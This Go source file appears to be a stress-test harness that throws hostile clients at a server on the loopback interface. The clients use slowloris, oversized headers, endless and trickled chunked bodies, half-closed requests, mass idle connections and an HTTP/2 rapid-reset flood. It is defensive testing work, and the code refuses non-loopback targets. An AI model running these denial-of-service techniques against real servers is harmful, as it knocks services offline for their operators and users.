package admission

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/spillway-go/spillway/lab/contestant"
)

// target is the input of the hostile clients.
type target struct {
	Address string
	Idle    int // connections; 0: as many as files allow
}

// attackReport is what they did.
type attackReport struct {
	Open int               // connections at one time, at most
	Done map[string]uint64 // connections of each kind; of resets, streams
}

// kind is one kind of hostile client: so many of them make a connection, strike, and
// after a pause begin again. A strike ends when the connection is closed, by the
// server or at the end of ctx.
type kind struct {
	name    string
	clients int
	pause   time.Duration
	strike  func(ctx context.Context, c net.Conn, count *atomic.Uint64)
}

// kinds are bounded in what they send, some megabytes a second: the question is what
// the server holds, not how much the loopback interface carries.
var kinds = []kind{
	{"slowloris", 200, 100 * time.Millisecond, slowHeaders},
	{"headers", 8, 250 * time.Millisecond, longHeaders},
	{"endless", 10, 100 * time.Millisecond, endlessBody},
	{"trickle", 10, 100 * time.Millisecond, trickledBody},
	{"half_closed", 20, 50 * time.Millisecond, halfClosed},
	{"half_request", 10, 50 * time.Millisecond, halfRequest},
	{"resets", 2, 100 * time.Millisecond, rapidResets},
}

// attackers is the role of the hostile clients. It is ready when the idle connections
// stand, and then says how many connections there are; the others begin.
func attackers(ctx context.Context, contestantJob *contestant.Job) (any, error) {
	var to target
	if err := contestantJob.Input(&to); err != nil {
		return nil, err
	}
	if host, _, err := net.SplitHostPort(to.Address); err != nil || !net.ParseIP(host).IsLoopback() {
		return nil, errors.New("hostile clients are for the loopback interface only")
	}
	idle := to.Idle
	if idle == 0 {
		idle = idleByFiles()
	}
	held, err := holdIdle(ctx, to.Address, idle)
	defer func() {
		for _, c := range held {
			c.Close()
		}
	}()
	if err != nil {
		return nil, err
	}
	report := attackReport{Open: len(held), Done: map[string]uint64{"idle": uint64(len(held))}}
	counts := make([]atomic.Uint64, len(kinds))
	var all sync.WaitGroup
	for i, k := range kinds {
		report.Open += k.clients
		for range k.clients {
			all.Go(func() { k.attack(ctx, to.Address, &counts[i]) })
		}
	}
	if err := contestantJob.Ready(report.Open); err != nil {
		return nil, err
	}
	all.Wait()
	for i, k := range kinds {
		report.Done[k.name] = counts[i].Load()
	}
	return report, nil
}

// mostIdle bounds the idle connections: they also need as many ports.
const mostIdle = 50_000

const dialTimeout = 5 * time.Second

// holdIdle makes n connections that have had one answer and stay open.
func holdIdle(ctx context.Context, address string, n int) (held []net.Conn, err error) {
	var mu sync.Mutex
	var dialling sync.WaitGroup
	var next atomic.Int64
	for range 32 {
		dialling.Go(func() {
			for ctx.Err() == nil && next.Add(1) <= int64(n) {
				c, e := net.DialTimeout("tcp", address, dialTimeout)
				if e == nil {
					e = oneAnswer(c)
				}
				mu.Lock()
				if c != nil {
					held = append(held, c)
				}
				if err == nil {
					err = e
				}
				mu.Unlock()
				if e != nil {
					return
				}
			}
		})
	}
	dialling.Wait()
	return held, err
}

func oneAnswer(c net.Conn) error {
	if _, err := io.WriteString(c, "GET /livez HTTP/1.1\r\nHost: h\r\n\r\n"); err != nil {
		return err
	}
	var answer []byte
	buf := make([]byte, 512)
	_ = c.SetReadDeadline(time.Now().Add(dialTimeout))
	for !bytes.HasSuffix(answer, []byte("ok\n")) {
		n, err := c.Read(buf)
		if err != nil {
			return err
		}
		answer = append(answer, buf[:n]...)
	}
	return nil
}

func (k kind) attack(ctx context.Context, address string, count *atomic.Uint64) {
	for ctx.Err() == nil {
		if c, err := net.DialTimeout("tcp", address, dialTimeout); err == nil {
			if k.name != "resets" {
				count.Add(1)
			}
			forget := context.AfterFunc(ctx, func() { c.Close() })
			k.strike(ctx, c, count)
			forget()
			c.Close()
		}
		pause(ctx, k.pause)
	}
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-time.After(d):
	case <-ctx.Done():
	}
}

// repeat writes text again and again, until the connection is closed.
func repeat(ctx context.Context, c net.Conn, text string, every time.Duration) {
	for ctx.Err() == nil {
		if _, err := io.WriteString(c, text); err != nil {
			return
		}
		pause(ctx, every)
	}
}

func slowHeaders(ctx context.Context, c net.Conn, _ *atomic.Uint64) {
	_, _ = io.WriteString(c, "GET /work HTTP/1.1\r\nHost: h\r\n")
	repeat(ctx, c, "X-A: b\r\n", time.Second)
}

const megabyte = 1 << 20

func longHeaders(_ context.Context, c net.Conn, _ *atomic.Uint64) {
	_, _ = io.WriteString(c, "GET /work HTTP/1.1\r\nHost: h\r\nX-Long: "+strings.Repeat("a", megabyte)+"\r\n\r\n")
	_, _ = io.Copy(io.Discard, c)
}

const upload = "POST /upload HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"

func endlessBody(ctx context.Context, c net.Conn, _ *atomic.Uint64) {
	_, _ = io.WriteString(c, upload)
	repeat(ctx, c, "4000\r\n"+strings.Repeat("a", 0x4000)+"\r\n", 20*time.Millisecond)
}

func trickledBody(ctx context.Context, c net.Conn, _ *atomic.Uint64) {
	_, _ = io.WriteString(c, upload)
	repeat(ctx, c, "1\r\na\r\n", time.Second/2)
}

func halfClosed(_ context.Context, c net.Conn, _ *atomic.Uint64) {
	closeHalf(c, "GET /work HTTP/1.1\r\nHost: h\r\n\r\n")
}

func halfRequest(_ context.Context, c net.Conn, _ *atomic.Uint64) {
	closeHalf(c, "GET /work HTTP/1.1\r\nHos")
}

func closeHalf(c net.Conn, text string) {
	_, _ = io.WriteString(c, text)
	if half, ok := c.(*net.TCPConn); ok {
		_ = half.CloseWrite()
	}
	_, _ = io.Copy(io.Discard, c)
}

// The parts of HTTP/2 that a rapid reset needs.
const (
	http2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

	frameHeaders, frameReset, frameSettings = 1, 3, 4
	endOfStream, endOfHeaders               = 1, 4
	cancelled                               = 8
)

func frame(to []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	to = append(to, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	return append(binary.BigEndian.AppendUint32(to, stream), payload...)
}

// resetBurst is how many streams are opened and cancelled every 10 ms.
const resetBurst = 10

// rapidResets opens streams and cancels each at once: the client is done with it, and
// the server has begun.
func rapidResets(ctx context.Context, c net.Conn, count *atomic.Uint64) {
	go func() { _, _ = io.Copy(io.Discard, c) }() // until the connection is closed
	// In HPACK: GET, http, and the path and the authority literally.
	request := append([]byte{0x82, 0x86, 0x04, 5}, "/work"...)
	request = append(request, 0x01, 1, 'h')
	reset := binary.BigEndian.AppendUint32(nil, cancelled)
	out := frame([]byte(http2Preface), frameSettings, 0, 0, nil)
	for stream := uint32(1); ctx.Err() == nil; {
		for range resetBurst {
			out = frame(out, frameHeaders, endOfStream|endOfHeaders, stream, request)
			out = frame(out, frameReset, 0, stream, reset)
			stream += 2
		}
		if _, err := c.Write(out); err != nil {
			return
		}
		count.Add(resetBurst)
		out = out[:0]
		pause(ctx, 10*time.Millisecond)
	}
}
